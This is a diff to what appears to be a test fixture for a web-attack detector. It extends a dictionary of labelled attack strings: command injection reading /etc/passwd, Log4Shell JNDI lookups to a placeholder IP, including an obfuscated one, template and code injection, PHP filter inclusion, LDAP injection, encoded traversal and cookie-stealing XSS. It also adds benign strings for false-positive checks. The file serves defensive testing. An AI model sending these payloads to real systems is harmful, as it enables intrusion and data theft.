@@ -74,8 +74,17 @@ ATTACKS = {
     "..%2f..%2f..%2fwindows%2fwin.ini": "traversal",
     "127.0.0.1; cat /etc/passwd": "command",
     "8.8.8.8|whoami": "command",
-    "${jndi:ldap://192.0.2.1:1389/a}": "other",
-    "{{7*7}}": "other",
+    "${jndi:ldap://192.0.2.1:1389/a}": "lookup",
+    "Mozilla/5.0 ${${::-j}${::-n}di:${lower:l}dap://192.0.2.1/x}": "lookup",
+    "{{7*7}}": "template",
+    "<%= system('id') %>": "template",
+    "php://filter/convert.base64-encode/resource=index.php": "inclusion",
+    "${@print(system('id'))}": "code",
+    "';system('cat /etc/passwd');//": "code",
+    "*)(uid=*))(|(uid=*": "other",
+    "%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc%c0%afpasswd": "traversal",
+    "%u003cscript%u003ealert(1)%u003c/script%u003e": "xss",
+    "PHNjcmlwdD5hbGVydChkb2N1bWVudC5jb29raWUpPC9zY3JpcHQ+": "xss",
 }
 
 ORDINARY = (
@@ -83,6 +92,10 @@ ORDINARY = (
     "Stra%C3%9Fe%20und%20Pl%C3%A4tze", "%E6%9D%B1%E4%BA%AC%E3%81%AE%E5%A4%A9%E6%B0%97", "c++ vs c#", "black & decker",
     "a3f1c2d4-9b8e-4f6a-8d7c-0123456789ab", "https://www.example.com/path?x=1&y=2", '{"page":1,"sort":"name"}', "100% cotton", "index.html",
     "/wp-content/themes/site/style.css", "price < 100", "don't panic", "drop off location", "12",
+    '{"query":"query { user(id: 5) { name } }","variables":{}}', "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmN",
+    "https://ad.example/click;h=v8/3a/0/0/*/x;25-0/0;0;77-300/250;~okv=;sz=300x250;~sscs=?", "x < y and y > z", "# Heading\n\n- item\n- item",
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
+    "https://www.google.com/search?q=log+files&ie=utf-8", "<p>Dear <b>Anna</b>,</p>", "========== summary ==========",
 )  # fmt: skip
 
 
